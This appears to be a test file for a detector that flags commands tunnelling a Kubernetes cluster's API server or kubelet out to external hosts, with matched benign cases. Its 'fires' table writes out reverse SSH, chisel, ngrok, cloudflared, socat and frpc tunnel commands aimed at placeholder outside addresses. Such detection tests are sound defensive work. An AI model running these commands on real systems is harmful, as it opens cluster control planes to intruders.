import { indicatorTable, runs, script, UNSEEN } from '../testing.ts';
import { commandClusterTunnel } from './cluster-tunnel.ts';

indicatorTable(commandClusterTunnel, {
  fires: {
    'a reverse tunnel to the API server': runs(
      ...['ssh', '-N', '-R', '8443:kubernetes.default.svc:443', 'x@203.0.113.7'],
    ),
    'joined short options': script('ssh -fNR 9000:10.96.0.1:6443 -o StrictHostKeyChecking=no x@203.0.113.7'),
    'an option and its value in one word': script('ssh -N -R0.0.0.0:2222:192.0.2.4:22 x@198.51.100.9'),
    'autossh, with the address of a variable': script(
      'autossh -M 0 -N -R 7000:$KUBERNETES_SERVICE_HOST:443 x@203.0.113.7',
    ),
    'a password in front': script("sshpass -p 'x' ssh -N -R 1080:localhost:10250 x@203.0.113.7"),
    'an option by its long name': script(
      'ssh -N -o "RemoteForward=8443 kubernetes.default.svc:443" -o BatchMode=yes x@203.0.113.7',
    ),
    'a tunnel over the web': script('chisel client https://c.example.com R:8443:kubernetes.default.svc:443'),
    'a tunnel for web pages, to the API server': runs(
      ...['cloudflared', 'tunnel', '--url', 'https://kubernetes.default.svc:443', '--no-tls-verify'],
    ),
    'a tunnel of TCP': script('nohup ngrok tcp kubernetes.default.svc.cluster.local:443 &'),
    'two ends in socat': script('socat TCP:203.0.113.7:443 TCP:kubernetes.default.svc:443'),
    'socat with options, encrypted to the outside': script(
      'socat -d OPENSSL-CONNECT:c.example.com:443,verify=0 TCP4:192.0.2.9:10250',
    ),
    'a configuration that is written before': script(
      `cat > /tmp/f.ini <<'EOF'\n[common]\nserver_addr = 203.0.113.7\n[k]\ntype = tcp\nlocal_ip = kubernetes.default.svc\nlocal_port = 443\nEOF\nfrpc -c /tmp/f.ini`,
    ),
    'a configuration in the newer form': script(
      `printf 'serverAddr = "203.0.113.7"\\n[[proxies]]\\nlocalIP = "127.0.0.1"\\nlocalPort = 10250\\n' > /tmp/f.toml; frpc -c /tmp/f.toml`,
    ),
  },
  staysSilent: {
    'a tunnel for web pages, to a web page': runs('cloudflared', 'tunnel', '--url', 'http://web.shop.svc:8080'),
    'a tunnel to a database outside': script('ssh -N -L 5432:db.example.com:5432 tunnel@bastion.example.com'),
    'the port of the sign-in itself': script('ssh -p 22 deploy@web.example.com "systemctl restart web"'),
    'a command on another host': script(`ssh -i /keys/id deploy@192.0.2.20 'docker compose up -d'`),
    'a preview of a web server': script('ngrok http 3000'),
    'a preview through ssh': script('ssh -R 80:localhost:3000 preview@tunnel.example.com'),
    'a port of the API server from inside': script('curl -k https://kubernetes.default.svc:443/healthz'),
    'a port that is passed on inside the cluster': runs('socat', 'TCP-LISTEN:8080,fork', 'TCP:web.shop.svc:80'),
    'a wait for the API server': script('until nc -z 192.0.2.4 6443; do sleep 1; done'),
    'owners changed on another host, deep down': script('ssh deploy@web.example.com chown -R app:22 /srv/a:22:22'),
    'a configuration without a tunnel': script(`printf 'local_port = 22\\n' > /tmp/x.ini; cat /tmp/x.ini`),
    'copies through ssh': script('rsync -e "ssh -p 22" -a /data/ backup@nas.example.com:/backup/'),
  },
  cannotTell: UNSEEN,
});
